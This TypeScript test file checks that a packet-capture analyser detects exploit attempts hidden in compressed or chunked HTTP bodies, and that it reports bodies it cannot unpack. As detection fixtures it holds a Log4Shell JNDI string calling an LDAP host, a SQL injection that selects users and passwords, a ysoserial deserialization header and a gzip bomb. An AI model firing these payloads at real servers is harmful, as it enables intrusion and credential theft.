/** exploit-attempt in bodies that are packed or come in chunks: a known way past filters that look at bytes as they are sent. */
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { nodePlatform } from '../../../src/pcap/platform.node.ts';
import { installPlatform } from '../../../src/pcap/platform.ts';
import { analyzeCapture, findingsOf } from '../../support/analyzeCapture.ts';
import { CLIENT, dialogue, SERVER } from '../../support/dialogue.ts';

/** `printf '{"q":"${jndi:ldap://203.0.113.10/a}"}' | gzip -c`, as curl sent it; tshark reads 37 bytes out of it. */
const RECORDED = Buffer.from(
  '1f8b0800000000000003ab562a54b25252a9ceca4bc9b4ca49492cb0d2d7373230d633d0333434d63334d04fac55aa050010ee90b525000000',
  'hex',
);
const LOG4SHELL = '{"q":"${jndi:ldap://203.0.113.10/a}"}',
  JSON_TYPE = 'application/json';

/** RFC 9112 section 7.1. */
const inChunks = (body: Buffer, size: number): string => {
  let text = '';
  for (let at = 0; at < body.length; at += size) {
    const chunk = body.subarray(at, at + size).toString('latin1');
    text += `${chunk.length.toString(16)}\r\n${chunk}\r\n`;
  }
  return `${text}0\r\n\r\n`;
};
const posted = async (body: Buffer, { encoding = '', type = JSON_TYPE, chunks = 0 } = {}) => {
  const coding = encoding === '' ? '' : `Content-Encoding: ${encoding}\r\n`,
    head = `POST /api HTTP/1.1\r\nHost: example.org\r\nContent-Type: ${type}\r\n${coding}`,
    sent =
      chunks > 0 ? `Transfer-Encoding: chunked\r\n\r\n${inChunks(body, chunks)}` : `Content-Length: ${body.length}\r\n\r\n${body.toString('latin1')}`;
  const report = await analyzeCapture(
    dialogue([
      ['client', head + sent],
      ['server', 'HTTP/1.1 204 No Content\r\n\r\n'],
    ]).bytes(),
  );
  return { findings: findingsOf(report, 'exploit-attempt'), coverage: report.coverage.find(({ detector }) => detector === 'exploit-attempt')! };
};

beforeAll(() => installPlatform(nodePlatform));
afterAll(() => installPlatform(null));

describe('found', () => {
  test.each<[string, Buffer, Parameters<typeof posted>[1]]>([
    ['gzip', RECORDED, { encoding: 'gzip' }],
    ['gzip in capitals', RECORDED, { encoding: 'GZIP' }],
    ['deflate', zlib.deflateSync(LOG4SHELL), { encoding: 'deflate' }],
    ['deflate without its frame, as some programs send it', zlib.deflateRawSync(LOG4SHELL), { encoding: 'deflate' }],
    ['Brotli', zlib.brotliCompressSync(LOG4SHELL), { encoding: 'br' }],
    ['gzip whose ten first bytes are a chunk of their own, as many programs send it', RECORDED, { encoding: 'gzip', chunks: 10 }],
    ['chunks that cut the mark', Buffer.from(LOG4SHELL), { chunks: 8 }],
    ['gzip behind which a megabyte would follow', zlib.gzipSync(LOG4SHELL + ' '.repeat(1 << 20)), { encoding: 'gzip' }],
  ])('%s', async (_, body, how) => {
    expect((await posted(body, how)).findings).toMatchObject([
      {
        title: `${CLIENT} tried to attack ${SERVER} port 80: Log4Shell (CVE-2021-44228)`,
        subjects: [
          { role: 'attacker', address: CLIENT },
          { role: 'victim', address: SERVER, port: 80 },
        ],
        evidence: { framesTotal: 1 },
      },
    ]);
  });
  test('a form, and an object of Java', async () => {
    const form = zlib.gzipSync('id=1%27+UNION+SELECT+user,password+FROM+users--+-');
    expect((await posted(form, { encoding: 'gzip', type: 'application/x-www-form-urlencoded' })).findings).toHaveLength(1);
    // The beginning of what ysoserial makes with CommonsCollections5.
    const object = zlib.gzipSync(Buffer.from('\xac\xed\0\x05sr\0.javax.management.BadAttributeValueExpException\xd4\xe7\xda\xab', 'latin1'));
    expect((await posted(object, { encoding: 'gzip', type: 'application/octet-stream' })).findings).toHaveLength(1);
  });
});

describe('not looked at, and said so', () => {
  test.each<[string, Buffer, string]>([
    ['a coding that is not read', zlib.zstdCompressSync('{"a":1}'.repeat(50)), 'zstd'],
    ['two codings, one in the other', zlib.gzipSync(RECORDED), 'gzip, gzip'],
    ['what is not what it says', Buffer.from('{"a":1}'), 'gzip'],
  ])('%s', async (_, body, encoding) => {
    const { findings, coverage } = await posted(body, { encoding });
    expect(findings).toEqual([]);
    expect(coverage).toMatchObject({ status: 'partial' });
    expect(coverage.why).toContain('The packed body of 1 request could not be looked into');
  });
  test('what unpacks to more than is looked at', async () => {
    expect((await posted(zlib.gzipSync('a'.repeat(100_000)), { encoding: 'gzip' })).coverage.why).toContain('only the first 4096 bytes');
  });
});

test('silent on a packed body without a mark, and on one that has a coding in name only', async () => {
  for (const [body, encoding] of [
    [zlib.gzipSync('{"level":"info","message":"started"}'), 'gzip'],
    [Buffer.from('{"a":1}'), 'identity'],
    [Buffer.from('{"a":1}'), 'aws-chunked'],
  ] as const) {
    const { findings, coverage } = await posted(body, { encoding });
    expect(findings).toEqual([]);
    expect(coverage.status).toBe('clean');
  }
});

test('a bomb in each of two hundred requests keeps nobody', async () => {
  const bomb = zlib.gzipSync(Buffer.alloc(3_000_000)).toString('latin1'),
    lines = Array.from(
      { length: 200 },
      (_, i) => ['client', `POST /${i} HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n\r\n${bomb}`] as const,
    ),
    capture = dialogue(lines, { gap: 0.001 }).bytes(),
    start = performance.now();
  expect(findingsOf(await analyzeCapture(capture), 'exploit-attempt')).toEqual([]);
  expect(performance.now() - start).toBeLessThan(5000);
});
